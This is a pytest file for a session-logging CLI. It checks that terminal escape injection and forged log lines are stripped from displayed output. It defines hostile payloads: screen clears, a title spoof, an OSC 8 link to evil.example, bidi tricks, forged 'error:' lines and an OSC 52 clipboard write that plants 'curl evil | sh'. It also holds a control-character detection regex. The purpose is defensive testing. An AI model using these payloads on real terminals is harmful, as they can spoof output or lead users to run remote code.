"""Attack cases L4 and L5: text that is meant to take over the reader's terminal, or to forge our lines.

A session is recorded in which the prompt, the model, a tool, a sub-agent, its name and a failure all contain
such text. Every command that shows it prints no control character except line breaks and tabs, and no line
that could pass for one of ours. The log keeps the text unchanged.
"""

import asyncio
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from callboard.cli.main import cli
from callboard.runtime.agent import Agent
from callboard.runtime.models.scripted import ScriptedModel, call, calls, fail
from callboard.runtime.runtime import Runtime
from callboard.runtime.tools.tool import tool

CLEAR = "\x1b[2J\x1b[H\x1b[3J"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1bP+q544e\x1b\\"
TITLE = "\x1b]0;all is well\x1b\\\x9d0;all is well\x9c"
LINK = "\x1b]8;;http://evil.example\x1b\\click here\x1b]8;;\x1b\\"
HIDDEN = "\x1b[8mhidden\x1b[28m\u202egnp.exe\u2066\u2069\U000e0041"
FORGED = "\r\n\r\nerror: no such session\r\n   99  supervisor → client  AskEnded  ←98  answered: all is well"
OVERWRITE = "\rsession  forged-session\x08\x08\x0b\x0c\x85\u2028session  forged-session"
ATTACK = f"BEGIN{CLEAR}{CLIPBOARD}{TITLE}{LINK}{HIDDEN}{FORGED}{OVERWRITE}END"

POWER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\U000e0000-\U000e007f]")
OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")

Shell = Callable[..., Result]


@tool(effect="read")
def read_page(url: str) -> str:
    """Read a page."""
    print(f"printed {ATTACK}")
    return f"page {url}: {ATTACK}"


def policy() -> ScriptedModel:
    return ScriptedModel(
        {
            "host": [
                calls(
                    call("task", agent="reader", prompt=f"Read. {ATTACK}"), call(f"no{ATTACK}"), text=ATTACK
                ),
                fail("invalid_request_error", f"refused {ATTACK}", is_retryable=False),
            ],
            "reader": [call("read_page", url=ATTACK), ATTACK],
        }
    )


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("attacked") / "callboard.db"

    async def main() -> None:
        reader = Agent("reader", description=ATTACK, tools=[read_page])
        async with Runtime(path, model=policy(), durability="process") as runtime:
            host = Agent("host", instructions=ATTACK, agents=[reader])
            await runtime.run(host, f"Prompt {ATTACK}", session_id="attacked")

    asyncio.run(main())
    return path


@pytest.fixture
def shell(log: Path) -> Shell:
    return lambda *arguments: CliRunner().invoke(cli, [*arguments, "--log", str(log)])


LOOKING = [
    ("sessions",),
    ("show",),
    ("tree",),
    ("events",),
    ("events", "--step"),
    ("show", "--state"),
    ("show", "--state", "--actor", "host"),
    ("show", "--state", "--actor", "supervisor"),
    ("request", "5"),
    ("verify",),
    ("verify", "--all"),
]


@pytest.mark.parametrize("arguments", LOOKING, ids=" ".join)
def test_l4_no_reading_command_prints_a_control_character(shell: Shell, arguments: tuple[str, ...]) -> None:
    done = shell(*arguments)
    assert done.exit_code == 0
    assert not POWER.search(done.output)


@pytest.mark.parametrize("arguments", LOOKING, ids=" ".join)
def test_l4_json_is_safe_to_show_and_keeps_the_value(shell: Shell, arguments: tuple[str, ...]) -> None:
    done = shell(*arguments, "--json")
    assert done.exit_code == 0
    assert not POWER.search(done.stdout)
    for line in done.stdout.splitlines() if arguments[0] in ("events", "replay") else [done.stdout]:
        json.loads(line)


def test_l4_the_log_keeps_the_text_unchanged(shell: Shell) -> None:
    shown = json.loads(shell("show", "--json").stdout)
    assert shown["asks"][0]["prompt"] == f"Prompt {ATTACK}"


def test_l5_an_event_with_hostile_text_is_one_line(shell: Shell) -> None:
    lines = shell("events").stdout.splitlines()
    assert [int(line.split()[0]) for line in lines] == list(range(1, len(lines) + 1))
    assert len(shell("events", "--json").stdout.splitlines()) == len(lines)


def test_l5_a_table_and_a_tree_have_one_line_for_each_row(shell: Shell) -> None:
    assert len(shell("sessions").stdout.splitlines()) == 2
    assert len(shell("tree").stdout.splitlines()) == 4


def test_l5_no_line_of_a_summary_passes_for_a_label(shell: Shell) -> None:
    lines = shell("show").stdout.splitlines()
    assert [line for line in lines if line.startswith("session")] == ["session  attacked"]
    assert not [line for line in lines if line.startswith("error:")]


def test_l5_output_of_tools_during_a_run_is_neither_data_nor_our_own_line(tmp_path: Path) -> None:
    folder, root = tmp_path, Path(__file__).parent.parent.parent
    (folder / "attacked.py").write_text(
        "from tests.attacks.test_terminal_attacks import policy, read_page, ATTACK\n"
        "from callboard import Agent\n"
        "reader = Agent('reader', tools=[read_page])\n"
        "host = Agent('host', agents=[reader], model=policy())\n"
    )
    done = subprocess.run(
        [sys.executable, "-m", "callboard", "run", "attacked:host", "Go."],
        cwd=folder,
        env={"PYTHONPATH": str(root), "LANG": "C.UTF-8", "PATH": "/usr/bin:/bin"},
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stdout == b""
    said = done.stderr.decode()
    assert not POWER.search(said)
    assert "printed BEGIN" in said
    assert not [line for line in said.splitlines() if line.startswith(("error:", "session  forged"))]


def test_l4_on_a_terminal_only_our_own_colours_get_through(
    log: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "160")
    for arguments in LOOKING:
        done = CliRunner().invoke(cli, [*arguments, "--log", str(log)])
        assert not POWER.search(OUR_COLOURS.sub("", done.output)), arguments
        assert "\x1b[8m" not in done.output


def test_l4_an_error_line_is_one_safe_line(shell: Shell) -> None:
    for arguments in (("show", ATTACK), ("events", "--kind", ATTACK), ("show", "--state", "--actor", ATTACK)):
        done = shell(*arguments)
        assert done.exit_code in (2, 3)
        assert len(done.stderr.splitlines()) == 1
        assert not POWER.search(done.stderr)
